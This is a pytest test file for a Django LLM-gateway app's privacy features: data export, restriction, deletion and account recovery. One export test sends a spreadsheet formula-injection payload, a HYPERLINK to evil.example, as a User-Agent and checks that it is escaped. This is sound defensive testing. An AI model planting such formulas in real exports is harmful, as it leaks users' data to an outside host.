"""The user's rights from Settings → Privacy: export, restriction, objection, erasure with recovery."""

import csv
import io
import json
import re
import zipfile
from io import BytesIO

import openai
import pytest
from django.core import mail
from openai import OpenAI

from accounts.models import DataExport, User
from gateway import services
from gateway.models import ApiKey, DataKey, ProviderKey
from tests.conftest import PASSWORD


def test_the_page_states_what_is_kept_and_for_how_long(alice_client):
    body = alice_client.get("/settings/privacy/").content.decode()
    for text in ("14 days", "12 months", "30 days (you can recover it), then erased", "never stores the content of your prompts"):
        assert text in body


def wait_ready(export_id, timeout=30):
    import time

    deadline = time.time() + timeout
    while time.time() < deadline:
        export = DataExport.objects.get(pk=export_id)
        if export.status != "pending":
            return export
        time.sleep(0.1)
    raise AssertionError("the export was not built")


def test_export_builds_a_zip_with_a_readme_and_no_secrets(alice_client, alice, upstream, live_server, celery_worker):
    from tests.conftest import wire

    secret = wire(alice, upstream)
    import requests

    requests.post(
        live_server.url + "/v1/chat/completions",
        json={"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "CANARY-export-prompt"}]},
        headers={"Authorization": f"Bearer {secret}", "User-Agent": '=HYPERLINK("http://evil.example/?"&A1,"Click")'},
        timeout=20,
    )
    from datetime import date

    from metrics.models import DailyRollup

    key = ApiKey.objects.get(user=alice)
    DailyRollup.objects.create(
        user=alice, api_key=key, day=date(2026, 11, 1), errors_by_class={"upstream_error": 2}, route_reasons={"explicit": 3}
    )
    alice_client.post("/login/", {"username": "alice@example.org", "password": PASSWORD})
    alice_client.force_login(alice)
    response = alice_client.post("/settings/privacy/export/", follow=True)
    assert "Your export is being prepared" in response.content.decode()
    export = wait_ready(DataExport.objects.get().pk)
    assert export.status == "ready"
    download = alice_client.get(f"/settings/privacy/exports/{export.pk}/")
    archive = zipfile.ZipFile(BytesIO(b"".join(download.streaming_content)))
    names = set(archive.namelist())
    assert {
        "README.txt",
        "profile.json",
        "login_history.csv",
        "api_keys.json",
        "provider_keys.json",
        "subscription.json",
        "transactions.csv",
        "usage_records.csv",
        "privacy_choices.json",
        "signed_in_browsers.csv",
    } <= names
    readme = archive.read("README.txt").decode()
    assert all(name in readme for name in names - {"README.txt"})
    everything = b"".join(archive.read(n) for n in names)
    assert secret.encode() not in everything and b"sk-openai-secret" not in everything and b"CANARY-export-prompt" not in everything
    assert json.loads(archive.read("provider_keys.json"))[0]["last4"] == "6789"
    assert json.loads(archive.read("profile.json"))["email"] == "alice@example.org"
    usage = list(csv.DictReader(io.StringIO(archive.read("usage_records.csv").decode())))
    (listed,) = json.loads(archive.read("api_keys.json"))
    assert usage[0]["api_key_id"] == str(listed["id"]) == str(key.pk)  # the files join up
    (daily,) = csv.DictReader(io.StringIO(archive.read("usage_daily.csv").decode()))
    assert daily["api_key_id"] == str(key.pk) and json.loads(daily["errors_by_class"]) == {"upstream_error": 2}
    assert json.loads(daily["route_reasons"]) == {"explicit": 3} and isinstance(json.loads(daily["latency_histogram"]), list)
    assert usage[0]["user_agent"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'  # text, not a formula, in a spreadsheet
    browsers = archive.read("signed_in_browsers.csv").decode().splitlines()
    assert browsers[0] == "created,last_seen,ip,device" and len(browsers) == 1 + alice.browser_sessions.count() > 1


def test_one_export_at_a_time_and_rate_limited(alice_client):
    alice_client.post("/settings/privacy/export/")
    response = alice_client.post("/settings/privacy/export/", follow=True)
    assert "An export is already being prepared." in response.content.decode()
    assert DataExport.objects.count() == 1


def test_another_account_cannot_download_an_export(alice_client, client, bob, alice):
    alice_client.post("/settings/privacy/export/")
    export = DataExport.objects.get()
    client.force_login(bob)
    assert client.get(f"/settings/privacy/exports/{export.pk}/").status_code == 404


def test_restriction_and_objection_are_recorded_with_their_time(alice_client, alice):
    alice_client.post("/settings/privacy/choices/", {"restrict": "on"})
    alice.refresh_from_db()
    assert alice.restricted_at is not None and alice.objected_at is None
    first = alice.restricted_at
    alice_client.post("/settings/privacy/choices/", {"restrict": "on", "object_to_analytics": "on"})
    alice.refresh_from_db()
    assert alice.restricted_at == first and alice.objected_at is not None
    alice_client.post("/settings/privacy/choices/", {})
    alice.refresh_from_db()
    assert alice.restricted_at is None and alice.objected_at is None


def test_deletion_needs_the_password(alice_client, alice):
    response = alice_client.post("/settings/privacy/delete/", {"password": "wrong", "confirm": "on"})
    assert response.status_code == 400 and "That is not your password." in response.content.decode()
    alice.refresh_from_db()
    assert alice.deletion_requested_at is None


def test_deletion_shreds_keys_at_once_and_logging_in_recovers(alice_client, client, alice):
    services.provider_key_save(user=alice, provider="openai", api_key="sk-to-shred-000000")
    services.api_key_issue(user=alice, name="k")
    response = alice_client.post("/settings/privacy/delete/", {"password": PASSWORD, "confirm": "on"})
    assert "Your account will be deleted" in response.content.decode()
    alice.refresh_from_db()
    assert alice.deletion_requested_at is not None
    assert not DataKey.objects.filter(user=alice).exists()
    assert not ApiKey.objects.filter(user=alice, revoked__isnull=True).exists()
    assert mail.outbox[-1].subject == "Your AURA account will be deleted"
    response = client.post("/login/", {"username": "alice@example.org", "password": PASSWORD}, follow=True)
    assert "Your account deletion is canceled" in response.content.decode()
    assert User.objects.get(pk=alice.pk).deletion_requested_at is None


def test_the_email_link_recovers_the_account(alice_client, client, alice):
    alice_client.post("/settings/privacy/delete/", {"password": PASSWORD, "confirm": "on"})
    link = re.search(r"http://[^/]+(/account/restore/\S+/)", mail.outbox[-1].body).group(1)
    assert client.get(link).status_code == 302
    assert User.objects.get(pk=alice.pk).deletion_requested_at is None
    assert client.get(link).status_code == 400  # used once


def test_a_built_export_is_announced_by_email(alice):
    from accounts.privacy import export_build

    export_build(export=DataExport.objects.create(user=alice))
    assert mail.outbox[-1].subject == "Your AURA data export is ready"
    assert "/settings/privacy/" in mail.outbox[-1].body


def test_a_cancelled_deletion_leaves_no_shredded_provider_key_behind(alice_client, client, alice, alice_key, live_server, upstream):
    """The shredded keys go with their data key: after recovering the account, the provider page is
    empty, the same provider can be added again, and calls through it work."""
    alice_client.post("/settings/privacy/delete/", {"password": PASSWORD, "confirm": "on"})
    assert not ProviderKey.objects.filter(user=alice).exists()
    client.post("/login/", {"username": "alice@example.org", "password": PASSWORD})
    assert "••••6789" not in client.get("/providers/").content.decode()
    response = client.post(
        "/providers/", {"provider": "openai", "api_key": "sk-again-0123456789", "base_url": f"{upstream.url}/v1", "label": ""}
    )
    assert response.status_code == 302 and ProviderKey.objects.filter(user=alice, provider="openai").count() == 1
    _key, secret = services.api_key_issue(user=alice, name="after")
    sdk = OpenAI(base_url=f"{live_server.url}/v1", api_key=secret, max_retries=0, timeout=20)
    assert sdk.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}]).choices[0].message.content
    with pytest.raises(openai.BadRequestError) as refused:  # its Anthropic key was shredded and not added again
        sdk.chat.completions.create(model="claude-sonnet-4-5", messages=[{"role": "user", "content": "hi"}])
    assert refused.value.body["code"] == "provider_key_missing"


def test_a_key_left_from_an_earlier_data_key_is_a_clear_error_and_rotation_passes_it(alice, alice_key, live_server, upstream):
    """Rows shredded before they were deleted with their data key (as deletion requests did before
    2026-11-29) no longer open once a new data key exists: a 400 saying to replace the key, not a 500."""
    DataKey.objects.filter(user=alice).delete()  # the data key alone, as the old shred did
    services.provider_key_save(user=alice, provider="mistral", api_key="sk-new-0123456789", base_url=f"{upstream.url}/v1")
    sdk = OpenAI(base_url=f"{live_server.url}/v1", api_key=alice_key, max_retries=0, timeout=20)
    with pytest.raises(openai.BadRequestError) as refused:
        sdk.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}])
    assert refused.value.body["code"] == "provider_key_unreadable" and "Replace it under Provider keys" in refused.value.body["message"]
    assert services.vault_rotate() == 1  # the account's readable key re-encrypted, the noise passed over
    assert sdk.chat.completions.create(model="mistral-small-latest", messages=[{"role": "user", "content": "hi"}]).choices


def test_deletion_is_confirmed_and_emailed_even_when_paddle_cannot_be_reached(transactional_db, alice_client, alice, settings):
    """Run in process (the embedded defaults: no broker), the subscription's cancellation at Paddle
    fails after its retries: the deletion still completes, with its page and its email."""
    from aura.celery import app
    from tests.conftest import free_port, subscribe

    subscribe(alice, "pro")
    settings.PADDLE_API_KEY, settings.PADDLE_API_URL = "pdl_sdbx_apikey_test", f"http://127.0.0.1:{free_port()}"
    eager = app.conf.task_always_eager
    app.conf.task_always_eager = True
    try:
        response = alice_client.post("/settings/privacy/delete/", {"password": PASSWORD, "confirm": "on"})
    finally:
        app.conf.task_always_eager = eager
    assert response.status_code == 200 and "Your account will be deleted" in response.content.decode()
    assert mail.outbox[-1].subject == "Your AURA account will be deleted"
    assert User.objects.get(pk=alice.pk).deletion_requested_at is not None


def test_deletion_signs_out_every_browser_of_the_account(alice_client, alice):
    from django.test import Client

    other = Client()
    other.force_login(alice)
    assert other.get("/settings/").status_code == 200
    alice_client.post("/settings/privacy/delete/", {"password": PASSWORD, "confirm": "on"})
    response = other.get("/settings/")
    assert response.status_code == 302 and response["Location"].startswith("/login/")
    assert other.post("/keys/", {"name": "after the deletion"}).status_code == 302
    assert not ApiKey.objects.filter(user=alice, revoked__isnull=True).exists()
